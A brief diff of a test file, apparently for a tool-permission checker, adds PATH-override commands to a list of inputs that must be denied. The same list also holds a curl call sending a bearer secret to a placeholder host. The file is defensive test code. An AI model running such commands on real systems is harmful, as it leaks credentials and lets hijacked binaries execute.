@@ -103,6 +103,8 @@ def test_pass_for_a_whole_tool_is_for_the_very_call(bench: Bench) -> None:
         f"curl -H 'Authorization: Bearer {SECRET}' https://a.b",
         'echo "unclosed',
         "echo " + "x" * 30_000,
+        "PATH=./bin:$PATH tool",
+        "env PATH=./bin tool",
     ],
 )
 def test_what_is_dangerous_secret_or_unread_has_no_pass(
